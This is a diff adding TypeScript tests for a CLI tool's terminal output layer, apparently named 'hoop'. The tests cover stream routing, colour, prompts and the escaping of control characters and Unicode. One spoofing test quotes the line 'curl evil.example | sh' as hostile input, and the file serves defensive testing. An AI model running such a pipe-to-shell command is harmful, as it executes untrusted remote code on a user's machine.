@@ -1,0 +1,81 @@
+import { PassThrough } from 'node:stream'
+import { expect, test } from 'vitest'
+import { createTerminal } from '../../cli/terminal.ts'
+import { until } from '../support/until.ts'
+
+function opened(o: { tty?: boolean, mayColor?: boolean, mayInteract?: boolean } = {}) {
+  const streams = [new PassThrough(), new PassThrough(), new PassThrough()].map((stream) => Object.assign(stream, { isTTY: o.tty ?? false })) as
+    [PassThrough, PassThrough, PassThrough]
+  const [stdin, stdout, stderr] = streams
+  const text = { out: '', err: '' }
+  stdout.on('data', (chunk: Buffer) => { text.out += chunk.toString() })
+  stderr.on('data', (chunk: Buffer) => { text.err += chunk.toString() })
+  const terminal = createTerminal({ stdin, stdout, stderr, mayColor: o.mayColor ?? true, mayInteract: o.mayInteract ?? true })
+  return { terminal, text, stdin }
+}
+
+test('results go to stdout as they are, everything else to stderr with a prefix', async () => {
+  const { terminal, text } = opened()
+  terminal.out('a row')
+  terminal.say('a remark')
+  await terminal.flush()
+  expect(text).toEqual({ out: 'a row\n', err: 'hoop: a remark\n' })
+})
+
+test('a message cannot imitate a line of hoop\'s own', async () => {
+  const { terminal, text } = opened()
+  terminal.say('error: refused\nhint: curl evil.example | sh\r\u001B[2K')
+  await terminal.flush()
+  expect(text.err).toBe('hoop: error: refused\nhoop:   hint: curl evil.example | sh<U+000D><U+001B>[2K\n')
+})
+
+test('JSON is one line that cannot act on a terminal, and the same value', async () => {
+  const { terminal, text } = opened()
+  const value = { statement: 'a\n\u009B2J\u202E\u{E0041}\uD83D😀' }
+  terminal.json(value)
+  await terminal.flush()
+  expect(text.out).toMatch(/^[^\p{C}\p{Default_Ignorable_Code_Point}]*\n$/u)
+  expect(JSON.parse(text.out)).toEqual(value)
+})
+
+test('colour is for terminals that want it', async () => {
+  for (const [options, colored] of [[{ tty: true }, true], [{ tty: false }, false], [{ tty: true, mayColor: false }, false]] as const) {
+    const { terminal, text } = opened(options)
+    terminal.say('error: refused')
+    await terminal.flush()
+    expect(text.err.includes('\u001B')).toBe(colored)
+  }
+})
+
+test('where nobody sits, a question fails at once and names what answers it', async () => {
+  for (const options of [{ tty: false }, { tty: true, mayInteract: false }]) {
+    const { terminal } = opened(options)
+    await expect(terminal.ask('Which gateway?', 'set HOOP_GATEWAY')).rejects.toMatchObject({ code: 'usage', hint: 'set HOOP_GATEWAY' })
+  }
+})
+
+test('on a terminal, a question is answered', async () => {
+  const { terminal, stdin, text } = opened({ tty: true })
+  const answer = terminal.ask('Which\u001B[2K gateway?')
+  await until('the question', () => text.err.includes('gateway?'))
+  stdin.write('https://gw.example\n')
+  expect(await answer).toBe('https://gw.example')
+  expect(text.err).toContain('<U+001B>[2K')
+})
+
+test('progress elsewhere than on a terminal is one line', async () => {
+  const { terminal, text } = opened()
+  terminal.progress('reading').done()
+  await terminal.flush()
+  expect(text.err).toBe('hoop: reading\n')
+})
+
+test('a reader that went away is no failure', async () => {
+  const { terminal } = opened()
+  const stdout = new PassThrough()
+  const closed = createTerminal({ stdin: new PassThrough(), stdout, stderr: new PassThrough(), mayColor: false, mayInteract: false })
+  stdout.destroy(Object.assign(new Error('EPIPE'), { code: 'EPIPE' }))
+  closed.out('nobody reads this')
+  await closed.flush()
+  terminal.out('still here')
+})
